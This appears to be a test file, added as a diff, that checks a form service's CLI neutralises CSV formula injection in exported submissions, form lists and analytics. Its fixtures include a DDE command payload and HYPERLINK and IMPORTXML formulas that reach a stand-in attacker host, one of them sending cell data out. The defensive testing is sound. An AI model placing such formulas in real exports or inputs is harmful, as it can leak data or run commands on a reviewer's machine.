@@ -1,0 +1,56 @@
+import { readFileSync } from 'node:fs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { neutraliseFormula } from '../../src/output/csvCell.js';
+import { tempDir } from '../helpers/cli.js';
+import { startSandbox } from '../helpers/commandSandbox.js';
+
+// CSV formula injection (OWASP): what strangers typed must not run when an admin opens a CSV.
+let sb: Awaited<ReturnType<typeof startSandbox>>;
+const tmp = tempDir();
+let qrId: string;
+beforeAll(async () => {
+  sb = await startSandbox();
+  const form = (await sb.api('POST', '/forms', { body: { title: '=HYPERLINK("http://evil.example","click")', shortText: 'x', fields: [{ type: 'shortText', option: { label: 'Note' } }, { type: 'number', option: { label: 'N' } }] } })).body.data;
+  qrId = form.qrId;
+  const [note, n] = form.fields.map((f: { key: string }) => f.key);
+  await sb.api('POST', `/forms/${qrId}/submissions`, { body: { answers: { [note]: '@SUM(1+1)*cmd|" /C calc"!A0', [n]: '-3' } } });
+});
+afterAll(async () => {
+  await sb.stop();
+  tmp.remove();
+});
+
+describe('the formula guard', () => {
+  it.each([
+    ['=1+1', "'=1+1"], ['+cmd', "'+cmd"], ['-2+3', "'-2+3"], ['@SUM(A1)', "'@SUM(A1)"], ['\tx', "'\tx"], ['\rx', "'\rx"],
+    ['-3', '-3'], ['+1.5e3', '+1.5e3'], ['plain', 'plain'], ['', ''], ['a=b', 'a=b'],
+  ])('%j is written as %j', (cell, written) => expect(neutraliseFormula(cell)).toBe(written));
+
+  it('submissions export -o csv and list -o csv guard cells; plain numbers stay numbers; --csv-raw writes them as they are', async () => {
+    const out = `${tmp.path}/s.csv`;
+    expect((await sb.cli(['submissions', 'export', qrId, '--out', out])).exitCode).toBe(0);
+    const csv = readFileSync(out, 'utf8');
+    expect(csv).toContain(`'@SUM(1+1)`);
+    expect(csv).toMatch(/,-3(,|\n|$)/m);
+    const list = (await sb.cli(['submissions', 'list', qrId, '-o', 'csv'])).stdout;
+    expect(list).toContain(`'@SUM(1+1)`);
+    const raw = `${tmp.path}/raw.csv`;
+    await sb.cli(['submissions', 'export', qrId, '--out', raw, '--csv-raw']);
+    expect(readFileSync(raw, 'utf8')).toMatch(/(^|,)"?@SUM\(1\+1\)/m);
+  });
+
+  it('forms list -o csv guards a title; --csv-raw does not', async () => {
+    expect((await sb.cli(['forms', 'list', '-o', 'csv'])).stdout).toContain(`"'=HYPERLINK(`);
+    expect((await sb.cli(['forms', 'list', '-o', 'csv', '--csv-raw'])).stdout).toContain(`"=HYPERLINK(`);
+  });
+
+  it('analytics export guards the service CSV row by row', async () => {
+    await fetch(`${sb.origin}/s/${qrId}`, { headers: { 'x-sandbox-city': '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")' } });
+    const out = `${tmp.path}/scans.csv`;
+    expect((await sb.cli(['analytics', 'export', qrId, '--out', out])).exitCode).toBe(0);
+    expect(readFileSync(out, 'utf8')).toContain(`"'=IMPORTXML(`);
+    const raw = `${tmp.path}/scans-raw.csv`;
+    await sb.cli(['analytics', 'export', qrId, '--out', raw, '--csv-raw']);
+    expect(readFileSync(raw, 'utf8')).not.toContain(`'=IMPORTXML(`);
+  });
+});
